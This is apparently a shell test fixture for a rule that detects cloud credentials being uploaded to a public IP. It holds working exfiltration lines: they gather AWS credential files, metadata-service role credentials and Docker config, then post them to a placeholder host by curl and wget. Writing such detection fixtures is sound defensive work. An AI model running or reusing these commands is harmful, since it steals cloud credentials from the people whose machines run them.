#!/bin/sh
# Fixture for sh-cloud-credentials-upload-to-ip.
# RULEID: credential files and metadata role credentials collected, then posted as a form, as a
#   binary body and as a wget post to a URL on a public IP held in a variable.
# OK: a GET of the metadata endpoint; a curl that downloads a config; an upload to a private IP.
SINK="http://203.0.113.77:8080/u"
OUT=/tmp/.c
for h in /root /home/*; do
  cat "$h/.aws/credentials" >> $OUT 2>/dev/null
done
# ok: sh-cloud-credentials-upload-to-ip
ROLE=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
curl -s "http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE" >> $OUT
# ruleid: sh-cloud-credentials-upload-to-ip
curl -s -F "f=@$OUT" "$SINK"
# ruleid: sh-cloud-credentials-upload-to-ip
cat ~/.docker/config.json | curl -s --data-binary @- "$SINK/d"
# ruleid: sh-cloud-credentials-upload-to-ip
wget -q --post-file=$OUT "$SINK/w" -O /dev/null
# ok: sh-cloud-credentials-upload-to-ip
curl -fsSL -o /etc/app.conf https://config.example.org/app.conf
